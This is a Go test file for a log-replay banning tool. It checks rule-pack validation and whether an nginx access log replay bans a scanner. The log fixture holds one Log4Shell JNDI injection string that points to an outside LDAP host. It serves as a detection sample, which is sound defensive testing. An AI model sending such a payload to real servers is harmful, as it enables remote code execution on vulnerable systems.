package main

import (
	"os"
	"path/filepath"
	"strings"
	"testing"
)

// TestRulesShowCheck: the embedded pack printed by `rules show` is a valid
// pack for `rules check` (and so for http.rules); a broken one is refused
// with the line at fault.
func TestRulesShowCheck(t *testing.T) {
	code, out, errs := runCLI(t, "", "rules", "show")
	if code != 0 || !strings.Contains(out, "scenarios:") {
		t.Fatalf("rules show: exit %d, stderr %q", code, errs)
	}
	dir := t.TempDir()
	good := filepath.Join(dir, "pack.yaml")
	if err := os.WriteFile(good, []byte(out), 0o644); err != nil {
		t.Fatal(err)
	}
	code, out, errs = runCLI(t, "", "rules", "check", good)
	if code != 0 || !strings.Contains(out, "valid") {
		t.Fatalf("rules check of the shown pack: exit %d, %q %q", code, out, errs)
	}
	bad := filepath.Join(dir, "bad.yaml")
	if err := os.WriteFile(bad, []byte("rules:\n  - {name: x, kind: http-nonsense, match: {anywhere: [y]}}\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	if code, _, errs = runCLI(t, "", "rules", "check", bad); code != 1 || !strings.Contains(errs, "http-nonsense") {
		t.Errorf("rules check of a bad pack: exit %d, stderr %q", code, errs)
	}
	if code, _, _ = runCLI(t, "", "rules"); code != 2 {
		t.Errorf("rules without a subcommand: exit %d, want 2", code)
	}
}

// TestReplayWebLog: `phalanx replay nginx:FILE` bans a CVE probe and a
// scanner and leaves a visitor alone.
func TestReplayWebLog(t *testing.T) {
	path := filepath.Join(t.TempDir(), "access.log")
	var b strings.Builder
	b.WriteString(`192.0.2.10 - - [06/Dec/2026:16:21:43 +0000] "GET / HTTP/1.1" 200 512 "-" "Mozilla/5.0"` + "\n")
	b.WriteString(`198.51.100.7 - - [06/Dec/2026:16:21:44 +0000] "GET /?x=${jndi:ldap://198.51.100.1/a} HTTP/1.1" 200 512 "-" "Mozilla/5.0"` + "\n")
	b.WriteString(`192.0.2.10 - - [06/Dec/2026:16:21:45 +0000] "GET /favicon.ico HTTP/1.1" 404 0 "-" "Mozilla/5.0"` + "\n")
	if err := os.WriteFile(path, []byte(b.String()), 0o600); err != nil {
		t.Fatal(err)
	}
	code, out, errs := runCLI(t, "", "replay", "nginx:"+path)
	if code != 0 {
		t.Fatalf("exit %d: %s", code, errs)
	}
	if !strings.Contains(out, `"value":"198.51.100.7"`) || strings.Contains(out, `"value":"192.0.2.10"`) {
		t.Errorf("want a ban on the log4shell probe only:\n%s", out)
	}
	if code, _, errs = runCLI(t, "", "replay", "nginx/main:"+path); code != 1 || !strings.Contains(errs, `log format "main" is not defined`) {
		t.Errorf("an undefined log format: exit %d, stderr %q", code, errs)
	}
}
